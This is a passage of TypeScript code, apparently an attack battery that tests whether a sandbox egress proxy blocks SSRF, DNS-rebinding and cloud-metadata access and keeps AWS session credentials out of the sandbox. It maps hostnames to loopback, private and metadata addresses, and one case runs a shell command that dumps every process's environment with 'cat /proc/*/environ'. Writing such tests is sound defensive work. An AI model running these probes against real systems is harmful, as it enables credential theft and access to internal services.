      spec: connect(`docker0.${R}:${P}`),
      check: refused(['private-address'])
    },
    {
      id: '5.42',
      cls: 5,
      title: 'audit mode: `CONNECT localhost`',
      spec: connect(`localhost:${P}`),
      check: refused(['localhost'])
    }
  ]
}

/** The allowlist, routes and /etc/hosts lines both runs need. */
export function batterySetup(
  env: BatteryEnv,
  upstreamPort: number,
  plainPort: number
): {
  allow: string[]
  connectTo: string[]
  hosts: Array<[string, string]>
} {
  const P = env.canary
  const R = NAMES.rebind
  const to = `127.0.0.1:${upstreamPort}`
  return {
    allow: [
      NAMES.allowed,
      `*.${NAMES.wild}`,
      `http://${NAMES.plain}`,
      ...[
        'loop',
        'loop6',
        'docker0',
        'self',
        'self6',
        'ten',
        'cgnat',
        'zero',
        'mapped',
        'mixed'
      ].map((l) => `${l}.${R}:${P}`),
      `*.${NAMES.wildRebind}:${P}`,
      `meta.${R}`,
      `http://meta.${R}`,
      `meta6.${R}`,
      `azure.${R}`
    ],
    connectTo: [
      `api.github.com:443=${to}`,
      `generativelanguage.googleapis.com:443=${to}`,
      `${NAMES.allowed}:443=${to}`,
      `${NAMES.custom}:443=${to}`,
      `${NAMES.wildA}:443=${to}`,
      `${NAMES.plain}:80=127.0.0.1:${plainPort}`
    ],
    hosts: [
      [`loop.${R}`, '127.0.0.1'],
      [`loop6.${R}`, '::1'],
      [`docker0.${R}`, '172.17.0.1'],
      [`self.${R}`, env.runnerV4],
      [`self6.${R}`, env.runnerV6],
      [`ten.${R}`, '10.0.0.1'],
      [`cgnat.${R}`, '100.64.0.1'],
      [`zero.${R}`, '0.0.0.0'],
      [`mapped.${R}`, '::ffff:127.0.0.1'],
      [`mixed.${R}`, '93.184.216.34'],
      [`mixed.${R}`, '127.0.0.1'],
      [`x.${NAMES.wildRebind}`, '127.0.0.1'],
      [`meta.${R}`, '169.254.169.254'],
      [`meta6.${R}`, 'fd00:ec2::254'],
      [`azure.${R}`, '168.63.129.16'],
      [`notallowed-meta.${DOMAIN}`, '169.254.169.254']
    ]
  }
}

/** The S3 endpoint the aws run allows and routes to the recording upstream. */
export const S3_HOST = 's3.us-east-1.amazonaws.com'

/**
 * Class 17 in a run with the `aws` grant (OIDC and STS faked on the runner side). What the
 * design promises, re-signing with the session credentials and refusing presigned URLs and
 * streaming payloads, is checked when the proxy re-signs; while it forwards the placeholder
 * signature untouched, those are recorded as not applicable yet.
 */
export function awsAttacks(session: {
  accessKeyId: string
  secretAccessKey: string
  sessionToken: string
}): AttackDef[] {
  const sig = 'python3 /workspace/.airlock-sec/sigv4.py'
  const path = (id: string): string => `/airlock-sec-bucket/${mark(id)}`
  const real = [session.accessKeyId, session.secretAccessKey, session.sessionToken]
  /** How the proxy treated a placeholder-signed request (17.2 tells re-signing apart). */
  const resigning = (ctx: CheckCtx): 'placeholder' | 'resigned' | 'unknown' => {
    const r = ctx.up.find((x) => x.url.includes(mark('17.2')))
    const auth = String(r?.headers.authorization ?? '')
    if (auth.includes(PLACEHOLDERS.awsAccessKeyId)) return 'placeholder'
    if (
      auth.includes(session.accessKeyId) &&
      r?.headers['x-amz-security-token'] === session.sessionToken
    )
      return 'resigned'
    return 'unknown'
  }
  const refusedOnceResigning =
    (id: string, what: string): AttackDef['check'] =>
    (o, ctx) => {
      const mode = resigning(ctx)
      const c = curlLine(o)
      if (mode === 'placeholder')
        return {
          outcome: `not applicable yet: no SigV4 re-signing in this release (it leaves with the placeholder signature, useless upstream)`,
          problems: [],
          verdict: 'not-applicable'
        }
      const p: string[] = []
      if (c.http !== '403') p.push(`${what} answered ${c.http}, the design refuses it`)
      notReached(ctx, mark(id), p)
      return { outcome: p.length ? `${what} forwarded` : `${what} refused`, problems: p }
    }
  return [
    {
      id: '17.2',
      cls: 17,
      title: 'S3 request SigV4-signed with the placeholder keys (the aws grant active)',
      spec: {
        kind: 'sh',
        cmd: `${sig} header GET ${S3_HOST} ${path('17.2')} x=1 > /tmp/h && ${curl(`-H @/tmp/h "https://${S3_HOST}${path('17.2')}?x=1"`)}`
      },
      check: (o, ctx) => {
        const mode = resigning(ctx)
        if (mode === 'placeholder')
          return {
            outcome:
              'not applicable yet: the aws grant mints STS credentials, but the proxy forwards the placeholder signature (no SigV4 re-signing in this release)',
            problems: [],
            verdict: 'not-applicable'
          }
        const p =
          mode === 'resigned'
            ? []
            : [
                `upstream saw: ${describe(o)}, ${JSON.stringify(ctx.up.find((x) => x.url.includes(mark('17.2')))?.headers ?? 'nothing')}`
              ]
        return {
          outcome: p.length
            ? 'neither forwarded nor re-signed'
            : 're-signed with the session credentials',
          problems: p
        }
      }
    },
    {
      id: '17.3',
      cls: 17,
      title: 'presigned S3 URL made with the placeholder keys',
      spec: {
        kind: 'sh',
        cmd: `url=$(${sig} presign GET ${S3_HOST} ${path('17.3')} x=1) && ${curl('"$url"')}`
      },
      check: refusedOnceResigning('17.3', 'presigned URL')
    },
    {
      id: '17.4',
      cls: 17,
      title: 'streaming-signed upload (`STREAMING-AWS4-HMAC-SHA256-PAYLOAD`)',
      spec: {
        kind: 'sh',
        cmd: `${sig} header PUT ${S3_HOST} ${path('17.4')} x=1 streaming > /tmp/h && ${curl(`-X PUT --data-binary 'chunked-payload' -H @/tmp/h "https://${S3_HOST}${path('17.4')}?x=1"`)}`
      },
      check: refusedOnceResigning('17.4', 'streaming upload')
    },
    {
      id: '17.5',
      cls: 17,
      title: 'the STS session credentials, anywhere in the sandbox’s environment',
      spec: { kind: 'sh', cmd: 'env; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"' },
      check: (o) => {
        const out = `${String(o?.stdout)}${String(o?.stderr)}`
        const p = real
          .filter((s) => out.includes(s))
          .map(() => 'a session credential is in the sandbox')
        if (!out.includes(`AWS_ACCESS_KEY_ID=${PLACEHOLDERS.awsAccessKeyId}`))
          p.push('the placeholder key is missing (test void)')
        return {
          outcome: p.length ? 'session credentials exposed' : 'only the placeholders',
          problems: p
        }
      }
    }
  ]
}
